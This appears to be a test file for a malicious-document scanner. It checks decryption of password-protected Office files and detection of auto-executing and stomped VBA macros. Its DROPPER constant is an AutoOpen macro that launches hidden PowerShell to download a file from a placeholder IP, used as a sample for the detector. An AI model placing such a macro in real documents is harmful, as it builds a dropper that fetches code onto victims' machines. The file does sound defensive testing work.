/**
 * Through the whole pipeline (scanInput, every registered engine): encrypted documents are decrypted
 * and their content analysed as children; stomped VBA is reported in OLE and OOXML alike.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { walkResults, type ScanResult } from '../../src/core/index.js';
import { buildDocm } from '../../src/formats/ooxml/index.js';
import { buildVbaProjectBin, vbaModuleSource } from '../../src/formats/ovba/index.js';
import { scanInput } from '../../src/pipeline/index.js';
import { buildEncryptedXls, encryptAgile } from '../builders/offcrypto.js';
import { buildPcodeProject } from '../builders/pcode.js';

// Inert: TEST-NET address; the command is text that is never run.
const DROPPER = [
  'Sub AutoOpen()',
  '    Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")',
  '    w.Create "powershell -nop -w hidden -c iwr http://192.0.2.10/a.bin", Null, Null, pid',
  'End Sub',
].join('\n');
const BENIGN = 'Sub AutoOpen()\n    MsgBox "Document ready"\nEnd Sub';

const ids = (r: ScanResult) => r.findings.map((f) => f.id);

test('agile .docm encrypted with VelvetSweatshop → macro findings in the decrypted.docm child', async () => {
  const docm = buildDocm({
    vbaProjectBin: buildVbaProjectBin({
      modules: [{ name: 'NewMacros', code: vbaModuleSource('NewMacros', DROPPER) }],
    }),
  });
  const result = await scanInput({ path: 'invoice.doc', bytes: encryptAgile(docm) });
  assert.equal(result.type, 'ole');
  assert.ok(ids(result).includes('offcrypto.default-password'));
  const child = result.children.find((c) => c.relation === 'decrypted');
  assert.equal(child?.path, 'invoice.doc!decrypted.docm');
  assert.equal(child.type, 'ooxml');
  assert.ok(ids(child).includes('vba.autoexec-execution-chain'), ids(child).join());
  assert.equal(child.extracted.macros[0]?.module, 'NewMacros');
  assert.equal(result.verdict, 'malicious');
});

test('agile .docx with an unknown password → offcrypto.encrypted, suspicious, never clean', async () => {
  const docm = buildDocm({ vbaProjectBin: buildVbaProjectBin({ modules: [] }) });
  const bytes = encryptAgile(docm, { password: 'Invoice2024', spinCount: 1000 });
  const result = await scanInput({ path: 'locked.docx', bytes });
  assert.deepEqual(ids(result), ['offcrypto.encrypted']);
  assert.equal(result.verdict, 'suspicious');
});

test('RC4 CryptoAPI .xls → decrypted.xls child, not decrypted a second time', async () => {
  const result = await scanInput({ path: 'book.xls', bytes: buildEncryptedXls('inert').bytes });
  assert.ok(ids(result).includes('offcrypto.default-password'));
  assert.equal(result.children[0]?.path, 'book.xls!decrypted.xls');
  assert.equal(result.children[0]?.type, 'ole');
  assert.equal([...walkResults(result)].length, 2);
});

test('stomped vbaProject.bin inside a .docm → vba.stomped and the p-code URL in the IOCs', async () => {
  const bin = buildPcodeProject({
    modules: [{ name: 'NewMacros', source: BENIGN, compiledFrom: DROPPER }],
  }).bytes;
  const result = await scanInput({
    path: 'invoice.docm',
    bytes: buildDocm({ vbaProjectBin: bin }),
  });
  assert.ok(ids(result).includes('vba.stomped'));
  assert.ok(result.extracted.iocs.urls.includes('http://192.0.2.10/a.bin'));
  assert.notEqual(result.verdict, 'clean');
});
